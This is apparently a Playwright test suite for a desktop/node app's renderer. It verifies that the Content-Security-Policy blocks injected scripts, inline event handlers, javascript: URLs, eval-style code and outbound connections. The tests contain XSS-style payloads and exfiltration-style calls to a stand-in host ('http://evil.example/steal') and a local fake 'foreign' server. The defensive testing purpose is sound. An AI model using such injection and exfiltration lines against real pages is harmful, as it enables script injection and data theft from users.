// Issue 8 §4: the renderer's Content-Security-Policy holds, in Chromium, on the BUILT renderer
// (dist/renderer), the way each carrier serves it:
//   (a) `pnode node --ui`: a real node's control server (static-files.ts), opened with #token;
//   (b) the Electron window's app:// scheme: Electron cannot run here, so a tiny HTTP server answers
//       with exactly what main.ts's protocol handler answers: resolveAppRequest() picks the file,
//       assetFile() confines it, rendererResponseHeaders() sets the headers (CSP included). A fake
//       `window.pnode` stands in for the preload so the app takes its Electron path.
// For each: the app itself loads with no violation; then an injected <script>, inline event handlers,
// javascript: URLs, eval / new Function / string timers and connections to a foreign host are all
// refused, each with a securitypolicyviolation event, and window.pwned stays undefined.
import { expect, test, type Page } from '@playwright/test';
import { createServer, type Server } from 'node:http';
import { readFile } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { assetFile, resolveAppRequest, APP_ORIGIN } from '../src-main/app-protocol.js';
import { rendererResponseHeaders } from '../src-main/window-policy.js';
import { initialNodeState } from '../src-shared/control/initial-state.js';
import { ROOT, startPnode, tempDir, type Running } from './support/pnode.js';

const RENDERER_ROOT = join(ROOT, 'dist', 'renderer');

interface Violation {
  readonly directive: string;
  readonly blocked: string;
  readonly sample: string;
}

declare global {
  interface Window {
    pwned?: unknown;
    __cspViolations?: Violation[];
    __evalOutcomes?: { eval: string; fn: string; timer: string };
  }
}

function listen(server: Server): Promise<number> {
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      const address = server.address();
      resolve(typeof address === 'object' && address !== null ? address.port : 0);
    });
  });
}

function close(server: Server | undefined): Promise<void> {
  return new Promise((resolve) => {
    if (server === undefined) return resolve();
    server.closeAllConnections();
    server.close(() => resolve());
  });
}

/** The app:// protocol handler of main.ts (serveApp), re-hosted on http://127.0.0.1:<port>. */
function appProtocolServer(): Server {
  return createServer((request, response) => {
    void (async () => {
      const url = `${APP_ORIGIN}${request.url ?? '/'}`;
      const asset = resolveAppRequest(request.method ?? 'GET', url);
      const plain = rendererResponseHeaders('text/plain; charset=utf-8');
      if (!asset.ok) {
        response.writeHead(asset.status, plain).end();
        return;
      }
      const file = assetFile(RENDERER_ROOT, asset.relativePath);
      if (file === null) {
        response.writeHead(403, plain).end();
        return;
      }
      try {
        const body = await readFile(file);
        response.writeHead(200, rendererResponseHeaders(asset.contentType)).end(request.method === 'HEAD' ? undefined : body);
      } catch {
        response.writeHead(404, plain).end();
      }
    })();
  });
}

/** A foreign host that would gladly answer anyone (CORS open): only the CSP can stop the page. */
interface Foreign {
  readonly server: Server;
  readonly port: number;
  hits: number;
}

async function foreignHost(): Promise<Foreign> {
  const server = createServer((request, response) => {
    foreign.hits++;
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/plain' }).end('stolen');
  });
  server.on('upgrade', (_request, socket) => {
    foreign.hits++;
    socket.destroy();
  });
  const foreign: Foreign = { server, port: await listen(server), hits: 0 };
  return foreign;
}

/** Records every securitypolicyviolation from the first byte on (init scripts are not subject to the CSP). */
async function recordViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    window.__cspViolations = [];
    document.addEventListener(
      'securitypolicyviolation',
      (event) => window.__cspViolations!.push({ directive: event.effectiveDirective, blocked: event.blockedURI, sample: event.sample }),
      true,
    );
  });
}

function violations(page: Page): Promise<Violation[]> {
  return page.evaluate(() => window.__cspViolations ?? []);
}

async function expectViolation(page: Page, directive: RegExp, blocked?: RegExp): Promise<void> {
  await expect
    .poll(async () => (await violations(page)).some((v) => directive.test(v.directive) && (blocked === undefined || blocked.test(v.blocked))), {
      message: `a securitypolicyviolation for ${directive}`,
    })
    .toBe(true);
}

async function expectNotPwned(page: Page): Promise<void> {
  expect(await page.evaluate(() => window.pwned)).toBeUndefined();
}

interface Carrier {
  readonly name: string;
  /** Opens the built app the way this carrier does, and waits until it has rendered. */
  open(page: Page): Promise<void>;
}

// The tests, the same for every carrier.
function cspTests(carrier: () => Carrier, foreign: () => Foreign): void {
  test('the app itself runs under the CSP without a single violation', async ({ page }) => {
    await recordViolations(page);
    await carrier().open(page);
    expect(await violations(page)).toEqual([]);
    await page.screenshot({ path: test.info().outputPath('loaded.png') });
  });

  test('an injected <script> does not run', async ({ page }) => {
    await recordViolations(page);
    await carrier().open(page);
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.pwned = "script element"';
      document.body.appendChild(script);
      // Markup parsed into a fragment: its scripts would run when inserted.
      document.body.appendChild(document.createRange().createContextualFragment('<script>window.pwned = "fragment"</script>'));
    });
    await expectViolation(page, /^script-src/, /^inline$/);
    await expectNotPwned(page);
  });

  test('inline event handlers do not run', async ({ page }) => {
    await recordViolations(page);
    await carrier().open(page);
    await page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<img id="csp-img" src="data:," onerror="window.pwned = \'onerror\'">');
      document.body.insertAdjacentHTML('beforeend', '<button id="csp-button" onclick="window.pwned = \'onclick\'">x</button>');
      document.getElementById('csp-button')!.click();
    });
    await expectViolation(page, /^script-src(-attr)?$/, /^inline$/);
    await expectNotPwned(page);
  });

  test('javascript: URLs do not run', async ({ page }) => {
    await recordViolations(page);
    await carrier().open(page);
    await page.evaluate(() => {
      const link = document.createElement('a');
      link.href = 'javascript:window.pwned = "javascript: link"';
      link.textContent = 'x';
      document.body.appendChild(link);
      link.click();
    });
    await expectViolation(page, /^script-src/, /^inline$/);
    await expectNotPwned(page);
  });

  test('eval, new Function and string timers are blocked', async ({ page }) => {
    await recordViolations(page);
    await carrier().open(page);
    // Code run by page.evaluate is the debugger's, which Chromium lets eval; a task queued from it
    // runs as the page's own code, under the page's CSP.
    await page.evaluate(() => {
      setTimeout(() => {
        const attempt = (run: () => unknown): string => {
          try {
            run();
            return 'ran';
          } catch (error) {
            return error instanceof Error ? error.name : String(error);
          }
        };
        window.__evalOutcomes = {
          eval: attempt(() => (0, eval)('window.pwned = "eval"')),
          fn: attempt(() => new Function('window.pwned = "new Function"')()),
          timer: attempt(() => (setTimeout as unknown as (code: string, ms: number) => number)('window.pwned = "string timer"', 0)),
        };
      }, 0);
    });
    const outcomes = (await (await page.waitForFunction(() => window.__evalOutcomes)).jsonValue())!;
    expect(outcomes.eval).toBe('EvalError');
    expect(outcomes.fn).toBe('EvalError');
    await expectViolation(page, /^script-src/, /^eval$/);
    // The string timer fails quietly (no throw); give it a moment, then it must not have run.
    await page.waitForTimeout(200);
    await expectNotPwned(page);
  });

  test('a connection to a foreign host is blocked (connect-src)', async ({ page }) => {
    await recordViolations(page);
    await carrier().open(page);
    const port = foreign().port;
    const before = foreign().hits;
    const outcomes = await page.evaluate(async (foreignPort) => {
      const fetched = await fetch(`http://127.0.0.1:${foreignPort}/steal?data=state`).then(
        () => 'fetched',
        (error: unknown) => (error instanceof Error ? error.name : String(error)),
      );
      const evil = await fetch('http://evil.example/steal').then(
        () => 'fetched',
        (error: unknown) => (error instanceof Error ? error.name : String(error)),
      );
      const socket = await new Promise<string>((resolve) => {
        try {
          const ws = new WebSocket(`ws://127.0.0.1:${foreignPort}/steal`);
          ws.onopen = () => resolve('open');
          ws.onerror = () => resolve('error');
        } catch (error) {
          resolve(error instanceof Error ? error.name : String(error));
        }
      });
      navigator.sendBeacon(`http://127.0.0.1:${foreignPort}/beacon`, 'state');
      return { fetched, evil, socket };
    }, port);
    expect(outcomes.fetched).toBe('TypeError');
    expect(outcomes.evil).toBe('TypeError');
    expect(outcomes.socket).not.toBe('open');
    await expectViolation(page, /^connect-src$/, new RegExp(`^(http|ws)://127\\.0\\.0\\.1:${port}`));
    // Nothing reached the foreign host (sendBeacon only queues: give it time to be sent, or not).
    await page.waitForTimeout(500);
    expect(foreign().hits - before).toBe(0);
  });
}

let foreign: Foreign | undefined;
test.beforeAll(async () => {
  expect(existsSync(join(RENDERER_ROOT, 'index.html')), 'dist/renderer is built (npm run build)').toBe(true);
  foreign = await foreignHost();
});
test.afterAll(async () => {
  await close(foreign?.server);
});

test.describe('CSP of the UI served by `pnode node --ui` (control server)', () => {
  let node: (Running & { match: RegExpExecArray }) | undefined;
  test.beforeAll(async () => {
    node = await startPnode(['node', '--data-dir', tempDir('pnode-e2e-csp-'), '--keystore', 'file', '--no-join', '--ui'], /dashboard\s+(http:\/\/127\.0\.0\.1:\d+\/#token=\S+)/);
  });
  test.afterAll(async () => {
    await node?.stop();
  });
  cspTests(
    () => ({
      name: 'control server',
      async open(page) {
        const response = await page.goto(node!.match[1]!);
        expect(response?.headers()['content-security-policy']).toContain("script-src 'self'");
        // First run: the node is in no network yet.
        await expect(page.getByRole('heading', { level: 1, name: /spare power/ })).toBeVisible();
      },
    }),
    () => foreign!,
  );
});

test.describe('CSP of the UI served as app:// (the Electron protocol handler, re-hosted)', () => {
  let server: Server | undefined;
  let port = 0;
  test.beforeAll(async () => {
    server = appProtocolServer();
    port = await listen(server);
  });
  test.afterAll(async () => {
    await close(server);
  });
  cspTests(
    () => ({
      name: 'app://',
      async open(page) {
        // The preload's window.pnode, faked: an idle node that answers nothing.
        await page.addInitScript((state) => {
          (window as unknown as { pnode: unknown }).pnode = {
            getState: () => Promise.resolve(state),
            command: () => Promise.resolve({ ok: false, error: { code: 'not-available', message: 'test shell' } }),
            onEvent: () => () => undefined,
          };
        }, initialNodeState('csp-test', Date.now()));
        const response = await page.goto(`http://127.0.0.1:${port}/index.html`);
        expect(response?.headers()['content-security-policy']).toContain("connect-src 'self'");
        await expect(page.locator('#root')).not.toBeEmpty();
      },
    }),
    () => foreign!,
  );
});
